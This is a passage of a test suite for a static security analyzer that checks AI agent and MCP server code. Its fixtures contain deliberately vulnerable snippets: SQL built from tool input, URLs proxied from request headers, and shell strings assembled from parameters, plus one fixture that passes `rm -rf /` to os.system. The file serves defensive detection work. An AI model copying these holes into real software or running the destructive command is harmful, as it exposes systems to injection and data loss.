    expect(await check('app/cli/status.py', src)).toEqual(['6 subprocess-dynamic-command low', '10 subprocess-dynamic-command low']);
  });

  it('arithmetic with a number written in the code is a number: `bash -c f"ulimit -v {kib}"` is the constant command it looks like (low); text spliced in is not (Python)', async () => {
    // the shape of gptme's sandbox
    const src = `import subprocess

def check_limit(limit):
    kib = max(1, (limit + 1023) // 1024)
    subprocess.run(["bash", "-c", f"ulimit -v {kib}"])

def run_limited(limit, script):
    subprocess.run(["bash", "-c", f"ulimit -v {limit}; {script}"])
`;
    expect(await check('app/sandbox.py', src)).toEqual(['5 subprocess-shell low', '8 subprocess-shell medium']);
  });

  it('tmux reading or killing a pane runs no program; tmux starting a session or typing keys does (Python)', async () => {
    // the shape of gptme's tmux tool
    const src = `import subprocess

def capture(pane_id: str):
    return subprocess.run(["tmux", "capture-pane", "-p", "-t", pane_id], capture_output=True)

def kill(session_id: str):
    return subprocess.run(["tmux", "kill-session", "-t", session_id])

def send(pane_id: str, keys: str):
    return subprocess.run(["tmux", "send-keys", "-t", pane_id, keys])
`;
    expect(await check('app/tools/tmux.py', src)).toEqual(['10 subprocess-shell medium']);
  });
});

describe('agent code not used for tuning, twenty-sixth round: MCP servers that run SQL (TypeScript)', () => {
  it("a pool a helper's declared type names (`(): Promise<mysql2.Pool>`) reaches the SQL sink; the MCP handler's `request.params` is the tool's input, named once", async () => {
    // the shape of benborla/mcp-server-mysql (index.ts and src/db/index.ts)
    const found = await checkProject({
      'src/db/index.ts': `import * as mysql2 from "mysql2/promise";
let poolPromise: Promise<mysql2.Pool>;
const getPool = (): Promise<mysql2.Pool> => {
  if (!poolPromise) {
    poolPromise = new Promise<mysql2.Pool>((resolve) => { resolve(mysql2.createPool({})); });
  }
  return poolPromise;
};
export async function executeReadOnlyQuery<T>(sql: string): Promise<T> {
  let connection;
  try {
    const pool = await getPool();
    connection = await pool.getConnection();
    const result = await connection.query(sql);
    return result as T;
  } finally {
    if (connection) connection.release();
  }
}
`,
      'index.ts': `import { Server } from "@modelcontextprotocol/sdk/server/index.js";
import { CallToolRequestSchema } from "@modelcontextprotocol/sdk/types.js";
import { executeReadOnlyQuery } from "./src/db/index.js";
const server = new Server({ name: "mysql", version: "1" }, { capabilities: { tools: {} } });
server.setRequestHandler(CallToolRequestSchema, async (request) => {
  const sql = request.params.arguments?.sql as string;
  return await executeReadOnlyQuery(sql);
});
`,
    });
    expect(found).toEqual(['src/db/index.ts 14 sql-injection critical']);
  });
});

describe('agent code not used for tuning, twenty-sixth round: clearing the chosen row', () => {
  it('an update of every row that only sets the default flag to false is low; one that sets another column is still high (Python)', async () => {
    // the shape of kotaemon's model managers
    const src = `from sqlalchemy.orm import Session
from .db import engine, LLMTable

def add(name: str, spec: dict, default: bool):
    with Session(engine) as sess:
        if default:
            sess.query(LLMTable).update({"default": False})
        sess.add(LLMTable(name=name, spec=spec, default=default))
        sess.commit()

def reset_all():
    with Session(engine) as sess:
        sess.query(LLMTable).update({"spec": None})
        sess.query(LLMTable).update({"default": False, "spec": None})
        sess.commit()
`;
    expect(await check('ktem/llms/manager.py', src)).toEqual(['7 sql-destructive-orm low', '13 sql-destructive-orm high', '14 sql-destructive-orm high']);
  });
});

describe('agent code not used for tuning, twenty-sixth round: helpers passing argv on', () => {
  it('a helper that passes its argv on to another (`_run_with_retry(cmd)` calling `_run(cmd)`) is judged by what its own callers pass (Python)', async () => {
    // the shape of gptme's tmux tool
    const src = `import subprocess

def _run_tmux_command(cmd: list[str]):
    return subprocess.run(cmd, check=True)

def _run_with_retry(cmd: list[str], retries: int = 3):
    for _ in range(retries):
        return _run_tmux_command(cmd)

def new_session(name: str):
    _run_tmux_command(["tmux", "kill-session", "-t", name])
    _run_with_retry(["tmux", "select-window", "-t", name])

def _run(cmd):
    return subprocess.run(cmd)

def _wrap(cmd):
    return _run(cmd)

def other(tool: str):
    _wrap([tool, "x"])
`;
    expect(await check('app/tools/tmux.py', src)).toEqual(['15 subprocess-dynamic-command medium']);
  });
});

describe('agent code not used for tuning, twenty-sixth round: a program under the home directory', () => {
  it('`os.path.expanduser("~/.local/bin/tool")` or `tool` on PATH is that program; a name from a parameter is still reported (Python)', async () => {
    // the shape of gptme's safety judge
    const src = `import os, subprocess

def _util_bin() -> str:
    candidate = os.path.expanduser("~/.local/bin/gptme-util")
    return candidate if (os.path.exists(candidate) and os.access(candidate, os.X_OK)) else "gptme-util"

def judge(text):
    subprocess.run([_util_bin(), "llm", "generate", text])

def run_named(name):
    subprocess.run([os.path.expanduser(name), "--version"])
`;
    expect(await check('app/util/safety.py', src)).toEqual(['11 subprocess-dynamic-command low']);
  });
});

describe('agent code not used for tuning, twenty-sixth round: SQL tools', () => {
  it('a tool parameter run as SQL says what helps when the model writes the statement (Python)', async () => {
    // the shape of designcomputer/mysql_mcp_server and runekaagaard/mcp-alchemy
    const src = `import pymysql
from mcp.server.fastmcp import FastMCP
mcp = FastMCP("mysql")

@mcp.tool()
def execute_sql(query: str) -> str:
    conn = pymysql.connect(host="db")
    with conn.cursor() as cursor:
        cursor.execute(query)
        return str(cursor.fetchall())
`;
    const config = defaultConfig('/p');
    const r = await analyzeFile({ rel: 'src/mysql_mcp_server/server.py', text: src, language: 'python' }, activeRules(rules, config), config);
    const f = r.findings.find((x) => x.ruleId === 'sql-injection');
    expect(f?.severity).toBe('critical');
    expect(f?.message).toMatch(/where the model writes the statement \(an SQL tool\), run it on a read-only connection or role, or check each statement with the kernel's SQL policy/);
  });
});

describe('agent code not used for tuning, twenty-seventh round: words of a command line with holes', () => {
  it('`f"mlflow server --host {host}".split()` starts mlflow; a command line whose first word is a hole is still dynamic (Python)', async () => {
    // the shape of AdalFlow's MLflow integration
    const src = `import subprocess

def get_cmd(host: str = "0.0.0.0", port: int = 8080) -> str:
    return f"mlflow server --host {host} --port {port}"

def start(host: str = "0.0.0.0", port: int = 8080):
    cmd = get_cmd(host, port)
    subprocess.Popen(cmd.split())

def run(tool, host):
    subprocess.Popen(f"{tool} --host {host}".split())
`;
    expect(await check('adalflow/tracing/mlflow_integration.py', src)).toEqual(['11 subprocess-dynamic-command low']);
  });
});

describe('agent code not used for tuning, twenty-sixth round: SET lists built in branches', () => {
  it('what each branch appends in the loop is kept for the join: names with bound parameters are low, a value between quotes stays medium, constant clauses make constant text (Python)', async () => {
    // the shapes of DocsGPT's repositories and julep's projection store
    const src = `from sqlalchemy import text

class Repo:
    def update(self, row_id, fields: dict):
        sets = []
        for col, val in fields.items():
            if col in ("meta", "tags"):
                sets.append(f"{col} = CAST(:{col} AS jsonb)")
            elif col == "origin":
                sets.append("origin = CAST(:origin AS uuid)")
            else:
                sets.append(f"{col} = :{col}")
        self._conn.execute(text(f"UPDATE items SET {', '.join(sets)} WHERE id = :id"), fields)

    def update_bad(self, row_id, fields: dict):
        sets = []
        for col, val in fields.items():
            if col == "name":
                sets.append(f"{col} = '{val}'")
            else:
                sets.append(f"{col} = :{col}")
        self._conn.execute(text(f"UPDATE items SET {', '.join(sets)} WHERE id = :id"), fields)

    def runs(self, before, table):
        conditions = []
        if before is None:
            conditions.append("started_at IS NULL")
        else:
            conditions.append("started_at < :before")
        self._conn.execute(text(f"SELECT * FROM {table} WHERE " + " AND ".join(conditions)), {"before": before})

    def scoped(self, alias, row_id):
        self._conn.execute(text(f"SELECT count(*) FROM artifacts AS {alias} WHERE {alias}.id = :id"), {"id": row_id})
`;
    expect(await check('app/repositories/items.py', src)).toEqual(['13 sql-injection low', '22 sql-injection medium', '30 sql-injection low', '33 sql-injection low']);
  });

  it('a command line joined from what branches appended, one of them dynamic, is still reported (Python)', async () => {
    const src = `import os

def clean(d, x):
    cmd = []
    if x:
        cmd.append("rm -rf /")
    else:
        cmd.append(f"ls {d}")
    os.system(" ".join(cmd))
`;
    const config = defaultConfig('/p');
    const r = await analyzeFile({ rel: 'app/clean.py', text: src, language: 'python' }, activeRules(rules, config), config);
    expect(r.findings.map((f) => `${f.line} ${f.ruleId}`)).toContain('9 subprocess-shell');
  });

  it('the same in TypeScript: `sets.push(...)` in each branch, joined', async () => {
    const src = `import { Pool } from "pg";
const pool = new Pool();
export async function update(id: string, fields: Record<string, unknown>) {
  const sets: string[] = [];
  let i = 2;
  for (const col of Object.keys(fields)) {
    if (col === "meta") sets.push(\`\${col} = CAST($\${i} AS jsonb)\`);
    else sets.push(\`\${col} = $\${i}\`);
    i++;
  }
  return pool.query(\`UPDATE items SET \${sets.join(", ")} WHERE id = $1\`, [id, ...Object.values(fields)]);
}
`;
    expect(await check('src/repositories/items.ts', src)).toEqual(['11 sql-injection low']);
  });
});

describe('agent code not used for tuning, twenty-eighth round: TypeScript agent frameworks', () => {
  it("the default of `process.env.SEGMENT_WRITE_KEY || \"…\"` is named by the variable: a Segment write key is published by design, another service's token is still found", async () => {
    // the shape of CopilotKit's telemetry client
    const src = `import { Analytics } from "@segment/analytics-node";
const writeKey = process.env.COPILOTKIT_SEGMENT_WRITE_KEY || "n7XAZtQCGS2v1vvBy3LgBCv2h3Y8whja";
export const segment = new Analytics({ writeKey });
const apiKey = process.env.MY_SERVICE_TOKEN ?? "n7XAZtQCGS2v1vvBy3LgBCv2h3Y8whjb";
export const client = { apiKey };
`;
    expect(await check('packages/shared/src/telemetry/telemetry-client.ts', src)).toEqual(['4 hardcoded-secret high']);
  });

  it('listing the process\'s own open files (`/proc/self/fd`) is a system fact; another process\'s are not', async () => {
    // the shape of CopilotKit's resource gauges
    const src = `import { readdirSync } from "node:fs";
export function openFiles(): number {
  return readdirSync("/proc/self/fd").length;
}
export function theirs(): number {
  return readdirSync("/proc/1/fd").length;
}
`;
    expect(await check('src/probes/resource-gauges.ts', src)).toEqual(['6 file-outside-sandbox medium']);
  });
});

describe('agent code not used for tuning, twenty-ninth round: ids looked up in a registry', () => {
  it('`provider = get_provider(provider_id)` then `if not provider: raise_http_error(...)`: past it the id is the registry\'s; without the lookup, or when the miss does not stop the request, it is still found (Python)', async () => {
    // the shape of TaskingAI's icon routes
    const src = `import os
from fastapi import APIRouter
from starlette.responses import FileResponse
from app.cache import get_provider
from app.error import raise_http_error

router = APIRouter()

@router.get("/providers/icons/{provider_id}.svg")
async def icon(provider_id: str):
    provider = get_provider(provider_id)
    if not provider:
        raise_http_error("OBJECT_NOT_FOUND", message=f"Provider {provider_id} not found.")
    return FileResponse(path=os.path.join(os.path.dirname(__file__), f"../providers/{provider_id}/icon.svg"))

@router.get("/bundles/icons/{bundle_id}.png")
async def bundle_icon(bundle_id: str):
    bundle = get_provider(bundle_id)
    if not bundle:
        print("missing")
    return FileResponse(path=os.path.join(os.path.dirname(__file__), f"../bundles/{bundle_id}/icon.png"))

@router.get("/other/{other_id}.png")
async def other_icon(other_id: str):
    return FileResponse(path=os.path.join(os.path.dirname(__file__), f"../other/{other_id}/icon.png"))
`;
    expect(await check('inference/app/routes/images/route.py', src)).toEqual(['21 file-untrusted-path high', '25 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, thirtieth round: this host', () => {
  it('a request to `0.0.0.0` reaches this host, like localhost (low); a private network address stays medium (JavaScript)', async () => {
    // the shape of vector-admin's document processor client
    const src = `const PYTHON_API = "http://0.0.0.0:8888";
export async function status() {
  return await fetch(\`\${PYTHON_API}/status\`);
}
export async function other() {
  return await fetch("http://10.0.0.5:8888/status");
}
`;
    expect(await check('backend/models/documentProcessor.js', src)).toEqual(['3 egress-not-allowlisted low', '6 egress-not-allowlisted medium']);
  });
});

describe('agent code not used for tuning, thirty-first round: MCP servers and research agents', () => {
  it('the login shells the system lists (`/etc/shells`) are a system fact to read; writing the file is not (TypeScript)', async () => {
    // the shape of DesktopCommanderMCP's shell choice
    const src = `import { readFile, writeFile } from "node:fs/promises";
export async function shells(): Promise<string[]> {
  const content = await readFile("/etc/shells", "utf8");
  return content.split("\\n");
}
export async function add(): Promise<void> {
  await writeFile("/etc/shells", "/bin/fish\\n");
}
`;
    expect(await check('src/tools/config.ts', src)).toEqual(['7 file-outside-sandbox high']);
  });
});

describe('agent code not used for tuning, thirty-first round: a project\'s configuration of its own MCP server', () => {
  it('an unpinned package the project publishes itself (package.json, pyproject.toml), or an image named for one, is low; another publisher\'s stays medium', async () => {
    // the shape of DesktopCommanderMCP's `.mcp.json` and plugin manifests
    const dir = mkdtempSync(path.join(os.tmpdir(), 'agentos-own-'));
    writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: '@wonderwhy-er/desktop-commander', version: '0.2.0' }));
    writeFileSync(path.join(dir, 'pyproject.toml'), '[build-system]\nrequires = ["hatchling"]\n\n[project]\nname = "Mcp_Atlassian"\nversion = "1.0"\n');
    const src = JSON.stringify(
      {
        mcpServers: {
          'desktop-commander': { command: 'npx', args: ['-y', '@wonderwhy-er/desktop-commander@latest'] },
          atlassian: { command: 'uvx', args: ['mcp-atlassian'] },
          other: { command: 'npx', args: ['-y', '@wonderwhy-er/desktop-commander-extras'] },
          theirs: { command: 'uvx', args: ['mcp-server-fetch'] },
          // an image named for one of the project's packages (scope aside), and another publisher's
          image: { command: 'docker', args: ['run', '-i', '--rm', 'ghcr.io/sooperset/mcp-atlassian:latest'] },
          scoped: { command: 'docker', args: ['run', '-i', '--rm', 'wonderwhy/desktop-commander'] },
          fetch: { command: 'docker', args: ['run', '-i', '--rm', 'mcp/fetch:latest'] },
        },
      },
      null,
      2,
    );
    try {
      expect(await check('.mcp.json', src, defaultConfig(dir))).toEqual(['7 mcp-unpinned-server low', '13 mcp-unpinned-server low', '20 mcp-unpinned-server medium', '26 mcp-unpinned-server medium', '35 mcp-unpinned-server low', '44 mcp-unpinned-server low', '53 mcp-unpinned-server medium']);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('agent code not used for tuning, thirty-first round: a name taken from a regular expression\'s group', () => {
  it('`re.search(r\'name="([a-zA-Z0-9_-]+)"\', code).group(1)` is a plain file name whatever the model wrote; a group that admits `/` or `.` is not (Python)', async () => {
    // the shape of claude-engineer's tool creator
    const src = `import re
from anthropic import Anthropic

client = Anthropic()
TOOLS = "tools"
NAME = re.compile(r"name\\s*=\\s*['\\"](?P<name>[\\w-]+)['\\"]")

def create_tool(prompt: str):
    response = client.messages.create(model="claude-3-5-sonnet-latest", max_tokens=4000, messages=[{"role": "user", "content": prompt}])
    code = response.content[0].text
    m = re.search(r'name\\s*=\\s*["\\']([a-zA-Z0-9_-]+)["\\']', code)
    if not m:
        return "no name"
    with open(f"{TOOLS}/{m.group(1)}.py", "w") as f:
        f.write(code)
    named = NAME.search(code)
    with open(f"{TOOLS}/{named.group('name')}.py", "w") as f:
        f.write(code)
    loose = re.search(r'path\\s*=\\s*"([^"]+)"', code)
    with open(f"{TOOLS}/{loose.group(1)}", "w") as f:
        f.write(code)
`;
    expect(await check('tools/toolcreator.py', src)).toEqual(['20 file-untrusted-path critical']);
  });

  it('`code.match(/name="([\\w-]+)"/)?.[1]` and `RE.exec(code)[1]` are plain file names; a global match and a group admitting `/` are not (TypeScript)', async () => {
    const src = `import { writeFileSync } from "node:fs";
import { generateText } from "ai";
import { openai } from "@ai-sdk/openai";
const NAME = /name:\\s*"([A-Za-z0-9_-]+)"/;
export async function createTool(prompt: string) {
  const { text } = await generateText({ model: openai("gpt-4o"), prompt });
  const name = text.match(/name="([\\w-]+)"/)?.[1];
  writeFileSync(\`tools/\${name}.ts\`, text);
  const named = NAME.exec(text);
  if (named) writeFileSync(\`tools/\${named[1]}.ts\`, text);
  const all = text.match(/dir=([\\w/]+);name="([\\w-]+)"/g);
  if (all) writeFileSync(\`tools/\${all[1]}.ts\`, text);
  const loose = text.match(/path="([^"]+)"/);
  if (loose) writeFileSync(\`tools/\${loose[1]}\`, text);
}
`;
    expect(await check('src/tools/creator.ts', src)).toEqual(['12 file-untrusted-path critical', '14 file-untrusted-path critical']);
  });
});

describe('agent code not used for tuning, thirty-first round: a module chosen within a fixed package', () => {
  it('`importlib.import_module(f"tools.{name}")` of a model\'s tool name can load only the package\'s modules (low); a bare name stays critical (Python)', async () => {
    // the shape of claude-engineer's tool dispatch
    const src = `import importlib
from anthropic import Anthropic

client = Anthropic()

def run(prompt: str):
    response = client.messages.create(model="claude-3-5-sonnet-latest", max_tokens=4000, messages=[{"role": "user", "content": prompt}])
    for block in response.content:
        if block.type == "tool_use":
            module = importlib.import_module(f"tools.{block.name}")
            other = importlib.import_module(block.name)
            return module, other
`;
    expect(await check('ce3.py', src)).toEqual(['10 code-dynamic-import low', '11 code-dynamic-import critical']);
  });
});

describe('agent code not used for tuning, thirty-first round: a dict filtered by its keys', () => {
  it('`{k: v for k, v in fields.items() if k in UPDATABLE}`: the SET list names only allowed columns, whatever the request sent; without the filter the names are the request\'s (Python)', async () => {
    // the shape of DocsGPT's connector sessions repository, called with the OAuth callback's arguments
    const src = `from flask import Flask, request
from sqlalchemy import text

app = Flask(__name__)
_UPDATABLE_SCALARS = frozenset({"status", "token"})
_UPDATABLE_JSONB = frozenset({"metadata"})

def update(conn, session_id, fields):
    filtered = {k: v for k, v in fields.items() if k in _UPDATABLE_SCALARS | _UPDATABLE_JSONB}
    set_clauses = []
    params = {"id": session_id}
    for col, val in filtered.items():
        set_clauses.append(f"{col} = :{col}")
        params[col] = val
    conn.execute(text(f"UPDATE connector_sessions SET {', '.join(set_clauses)} WHERE id = :id"), params)

def update_any(conn, session_id, fields):
    set_clauses = []
    for col, val in fields.items():
        set_clauses.append(f"{col} = :{col}")
    conn.execute(text(f"UPDATE connector_sessions SET {', '.join(set_clauses)} WHERE id = :id"), fields)

@app.get("/callback")
def callback():
    update(app.conn, request.args.get("state"), dict(request.args))
    update_any(app.conn, request.args.get("state"), dict(request.args))
    return "ok"
`;
    expect((await check('application/storage/repositories/sessions.py', src)).filter((f) => f.includes('sql'))).toEqual(['21 sql-injection high']);
  });
});

describe('agent code not used for tuning, thirty-first round: checks the earlier repositories showed once methods linked across modules', () => {
  it('a name tested against a collection the SDK lists (`client.meta.service_model.operation_names`) is one of them; a single name attribute is text, not a collection (Python)', async () => {
    // the shape of awslabs' security agent MCP client
    const src = `import re
import boto3
from mcp.server.fastmcp import FastMCP

mcp = FastMCP("security")

class Client:
    def _client(self):
        return boto3.client("securityagent")

    def call(self, operation: str, params: dict) -> dict:
        client = self._client()
        if operation not in client.meta.service_model.operation_names:
            raise ValueError(operation)
        method_name = re.sub(r"(?<!^)(?=[A-Z])", "_", operation).lower()
        return getattr(client, method_name)(**params)

    def call_named(self, operation: str, params: dict) -> dict:
        client = self._client()
        if operation not in client.meta.service_model.operation_name:
            raise ValueError(operation)
        return getattr(client, operation)(**params)

_client = Client()

@mcp.tool()
def call_api(operation: str, params: dict) -> str:
    return str(_client.call(operation, params)) + str(_client.call_named(operation, params))
`;
    expect(await check('awslabs/security_agent/aws_client.py', src)).toEqual(['22 code-dynamic-import critical']);
  });

  it('`if root != os.sep and not (p == root or p.startswith(root + os.sep)): raise` leaves p under the root; another condition beside the test does not (Python)', async () => {
    // the shape of awslabs' security agent path validation
    const src = `import os
from mcp.server.fastmcp import FastMCP, Context

mcp = FastMCP("security")
ROOT = os.environ.get("WORKSPACE_ROOT", os.getcwd())
STRICT = os.environ.get("STRICT")

def _validate_path(ctx: Context, path: str) -> str:
    resolved = os.path.realpath(path)
    root = os.path.realpath(ROOT)
    if root != os.sep and not (resolved == root or resolved.startswith(root + os.sep)):
        raise ValueError("outside the workspace")
    return resolved

def _loose(path: str) -> str:
    resolved = os.path.realpath(path)
    if STRICT and not resolved.startswith(ROOT + os.sep):
        raise ValueError("outside the workspace")
    return resolved

@mcp.tool()
def scan(ctx: Context, path: str = ".") -> str:
    path = _validate_path(ctx, path)
    return str(list(os.walk(path)))

@mcp.tool()
def scan_loose(path: str = ".") -> str:
    return str(list(os.walk(_loose(path))))
`;
    expect(await check('awslabs/security_agent/server.py', src)).toEqual(['28 file-untrusted-path critical']);
  });

  it('a bare call of a revision validator (`self._validate_git_ref(base_ref)`) makes the ref an argument git reads as a revision (Python)', async () => {
    const src = `import subprocess
from mcp.server.fastmcp import FastMCP

mcp = FastMCP("security")

class Scanner:
    @staticmethod
    def _validate_git_ref(base_ref: str) -> None:
        if not base_ref or base_ref.strip().startswith("-"):
            raise ValueError("not a revision")

    def diff(self, base_ref: str) -> str:
        try:
            self._validate_git_ref(base_ref)
        except ValueError as e:
            return str(e)
        return subprocess.run(["git", "diff", base_ref, "--"], capture_output=True, text=True).stdout

    def diff_unchecked(self, base_ref: str) -> str:
        return subprocess.run(["git", "diff", base_ref, "--"], capture_output=True, text=True).stdout

_scanner = Scanner()

@mcp.tool()
def diff_scan(base_ref: str) -> str:
    return _scanner.diff(base_ref) + _scanner.diff_unchecked(base_ref)
`;
    expect(await check('awslabs/security_agent/scanner.py', src)).toEqual(['20 subprocess-dynamic-command medium']);
  });

  it('`if (!safeCommands.includes(cmd)) return` with the array in a variable is an allowlist; a string\'s `includes` is a substring test (TypeScript)', async () => {
    // the shape of PraisonAI's TypeScript shell tool
    const src = `import { spawn } from "child_process";
export async function shell(command: string) {
  const safeCommands = ["ls", "cat", "head"];
  const parts = command.trim().split(" ");
  const cmd = parts[0];
  if (!safeCommands.includes(cmd)) return { success: false };
  return spawn(cmd, parts.slice(1), { shell: false });
}
export async function shell2(command: string) {
  const banner = "ls cat head";
  if (!banner.includes(command)) return { success: false };
  return spawn(command, [], { shell: false });
}
`;
    expect(await check('src/tools/utility-tools.ts', src)).toEqual(['12 subprocess-dynamic-command medium']);
  });
});

describe('agent code not used for tuning, thirty-second round: coding agents, RAG servers and their launchers', () => {
  it('a helper\'s URL parameter reached only through calls passing a configured host with the model\'s text in the path, or content fetched from a fixed host, is no SSRF; a call passing the model\'s whole URL is (Python, TypeScript)', async () => {
    // the shape of Langchain-Chatchat's PromQL tool
    const py = `import requests
from langchain_core.tools import tool
from langchain_openai import ChatOpenAI

def execute_request(url: str, params: dict) -> str:
    return requests.get(url, params=params).text

@tool
def query_prometheus(query: str) -> str:
    \"\"\"Query Prometheus.\"\"\"
    endpoint = CONFIG["prometheus_endpoint"]
    promql = ChatOpenAI().invoke(query).content
    query_type, query_params = promql.split("?")
    return execute_request(f"{endpoint}/api/v1/{query_type}", {})

def fetch_raw(url: str) -> str:
    return requests.get(url).text

@tool
def fetch_page(url: str) -> str:
    \"\"\"Fetch a page.\"\"\"
    return fetch_raw(url)
`;
    expect(await check('server/agent/tools_factory/text2promql.py', py)).toEqual(['17 egress-untrusted-url critical']);
    // the shape of Roo-Code's Open Graph image route
    const ts = `import { NextRequest } from "next/server";
async function fetchWithTimeout(url: string) {
  return await fetch(url);
}
async function loadFont(text: string) {
  const cssRes = await fetchWithTimeout(\`https://fonts.googleapis.com/css2?family=Inter&text=\${encodeURIComponent(text)}\`);
  const css = await cssRes.text();
  const fontUrl = css.match(/url\\(([^)]+)\\)/i)?.[1];
  if (!fontUrl) return null;
  return (await fetchWithTimeout(fontUrl)).arrayBuffer();
}
async function proxy(url: string) {
  return await fetch(url);
}
export async function GET(request: NextRequest) {
  const title = new URL(request.url).searchParams.get("title") || "Roo Code";
  await proxy(new URL(request.url).searchParams.get("image") ?? "");
  return loadFont(title);
}
`;
    expect(await check('apps/web/src/app/api/og/route.tsx', ts)).toEqual(['13 egress-untrusted-url high']);
  });

  it('`[which("x"), "serve"] if found else [sys.executable, "-m", "x", "serve"]` spread into an argv starts a known program; a program a parameter names does not (Python)', async () => {
    // the shape of private-gpt's `run` command and server start-up
    const src = `import shutil
import subprocess
import sys
import typer

_APP_BINARIES = {"claude-code": "claude", "openclaw": "openclaw"}

def _start_server():
    private_gpt_bin = shutil.which("private-gpt")
    base_cmd = [private_gpt_bin, "serve"] if private_gpt_bin else [sys.executable, "-m", "private_gpt", "serve"]
    return subprocess.Popen([*base_cmd, "--port", "8001"])

def run_command(app_name: str = typer.Argument(..., metavar="app"), session: str = typer.Option(None, "--session")) -> None:
    resolved = shutil.which(_APP_BINARIES.get(app_name, app_name))
    cmd = [resolved]
    if session:
        cmd += ["--resume", session]
    subprocess.run(cmd, check=False)

def run_plain(app_name: str) -> None:
    subprocess.run([shutil.which(app_name)], check=False)
`;
    // (a Typer argument is the operator's, but it also reaches prompts whose answers are not always seen as model output:
    // it keeps the grade of any parameter)
    expect(await check('private_gpt/cli/commands/run.py', src)).toEqual(['18 subprocess-dynamic-command low', '21 subprocess-dynamic-command low']);
  });

  it('a shell line whose every dynamic part passed a test of plain characters (outside quotes or, since the seventy-second round, between them), or is quoted outside any quotes, is low; untested it stays medium (TypeScript, Python)', async () => {
    // the shape of Roo-Code's commit search
    const ts = `import { exec } from "child_process";
import { promisify } from "util";
const execAsync = promisify(exec);
export async function searchCommits(query: string, cwd: string) {
  if (/^[a-f0-9]+$/i.test(query)) {
    await execAsync(\`git log -n 10 --author-date-order \${query}\`, { cwd });
    await execAsync(\`git log -n 10 --grep="\${query}"\`, { cwd });
  }
  return execAsync(\`git log -n 10 --grep="\${query}" --regexp-ignore-case\`, { cwd });
}
`;
    expect(await check('src/utils/git.ts', ts)).toEqual(['6 subprocess-shell low', '7 subprocess-shell low', '9 subprocess-shell medium']);
    const py = `import os, shlex, subprocess
def listing(d: str):
    subprocess.run(f"ls -la {shlex.quote(d)}", shell=True)
    subprocess.run(f"bash -c 'ls {shlex.quote(d)}'", shell=True)

def run_command(command: str):
    shell = os.environ.get("SHELL", "/bin/sh")
    os.system(f"{shell} -c {shlex.quote(command)}")
`;
    // (quoted for the outer shell, a command handed to \`-c\` is still run by the inner one: shell_gpt's runner)
    expect(await check('agent/listing.py', py)).toEqual(['3 subprocess-shell low', '4 subprocess-shell medium', '8 subprocess-shell medium']);
  });
});

describe('agent code not used for tuning, thirty-third round: chat front ends and their proxy routes', () => {
  it('a request\'s own path handed to a configured upstream is no SSRF; a base URL from a request header is; a host checked to end with a fixed domain is allowed (TypeScript)', async () => {
    // the shape of NextChat's provider routes, its `x-base-url` proxy and its Upstash proxy
    const src = `import { NextRequest, NextResponse } from "next/server";
const DEEPSEEK_BASE_URL = "https://api.deepseek.com";
export async function GET(req: NextRequest) {
  let path = \`\${req.nextUrl.pathname}\`.replaceAll("/api/deepseek", "");
  let baseUrl = process.env.DEEPSEEK_URL || DEEPSEEK_BASE_URL;
  if (!baseUrl.startsWith("http")) baseUrl = \`https://\${baseUrl}\`;
  return fetch(\`\${baseUrl}\${path}\`, { method: req.method, body: req.body });
}
export async function POST(req: NextRequest) {
  const fetchUrl = \`\${req.headers.get("x-base-url")}/\${req.nextUrl.pathname}\`;
  return fetch(fetchUrl, { method: req.method });
}
export async function PUT(req: NextRequest) {
  const endpoint = new URL(req.url).searchParams.get("endpoint");
  if (!endpoint || !new URL(endpoint).hostname.endsWith(".upstash.io")) {
    return NextResponse.json({ error: true }, { status: 403 });
  }
  return fetch(\`\${endpoint}/get/key\`);
}
export async function PATCH(req: NextRequest) {
  const endpoint = new URL(req.url).searchParams.get("endpoint") ?? "";
  if (!new URL(endpoint).hostname.endsWith("upstash.io")) return NextResponse.json({ error: true });
  return fetch(\`\${endpoint}/get/key\`);
}
`;
    expect(await check('app/api/[provider]/[...path]/route.ts', src)).toEqual(['11 egress-untrusted-url high', '23 egress-untrusted-url high']);
  });

  it('a helper\'s URL of a fixed API host and a path every caller hands on from its own callers is no SSRF (Python)', async () => {
    // the shape of open-swe's review API
    const src = `import httpx
from fastapi import APIRouter

router = APIRouter()
_GITHUB_API = "https://api.github.com"

async def _github_write(method: str, path: str, token: str, *, json: dict):
    async with httpx.AsyncClient() as client:
        return await client.request(method, f"{_GITHUB_API}{path}", json=json)

async def _github_post(path: str, token: str, *, json: dict):
    return await _github_write("POST", path, token, json=json)

@router.post("/review/{owner}/{repo}/{number}")
async def review(owner: str, repo: str, number: int, token: str):
    return await _github_post(f"/repos/{owner}/{repo}/pulls/{number}/reviews", token, json={})
`;
    expect(await check('agent/dashboard/review_api.py', src)).toEqual([]);
  });
});

describe('agent code not used for tuning, thirty-third round: a host compared with each allowed endpoint', () => {
  it('`allowedEndpoints.some((a) => normalizeUrl(endpoint).hostname === normalizeUrl(a).hostname)` allows the endpoint; the same over a list not named for allowing, or comparing a path, does not (TypeScript)', async () => {
    // the shape of NextChat's WebDAV proxy
    const src = `import { NextRequest, NextResponse } from "next/server";
const allowedWebDavEndpoints = (process.env.WHITE_WEBDAV_ENDPOINTS ?? "").split(",");
function normalizeUrl(url: string) {
  try { return new URL(url); } catch { return null; }
}
export async function GET(req: NextRequest) {
  const endpoint = new URL(req.url).searchParams.get("endpoint");
  if (!endpoint || !allowedWebDavEndpoints.some((allowedEndpoint) => {
    const normalizedAllowedEndpoint = normalizeUrl(allowedEndpoint);
    const normalizedEndpoint = normalizeUrl(endpoint as string);
    return normalizedEndpoint && normalizedEndpoint.hostname === normalizedAllowedEndpoint?.hostname;
  })) {
    return NextResponse.json({ error: true }, { status: 400 });
  }
  return fetch(endpoint);
}
const recentEndpoints: string[] = [];
export async function POST(req: NextRequest) {
  const endpoint = new URL(req.url).searchParams.get("endpoint") ?? "";
  if (!recentEndpoints.some((e) => new URL(e).hostname === new URL(endpoint).hostname)) return NextResponse.json({ error: true });
  return fetch(endpoint);
}
export async function PUT(req: NextRequest) {
  const endpoint = new URL(req.url).searchParams.get("endpoint") ?? "";
  if (!allowedWebDavEndpoints.some((a) => new URL(endpoint).pathname === new URL(a).pathname)) return NextResponse.json({ error: true });
  return fetch(endpoint);
}
`;
    expect(await check('app/api/webdav/[...path]/route.ts', src)).toEqual(['21 egress-untrusted-url high', '26 egress-untrusted-url high']);
  });
});

describe('agent code not used for tuning, thirty-fourth round: two containment tests joined by "or"', () => {
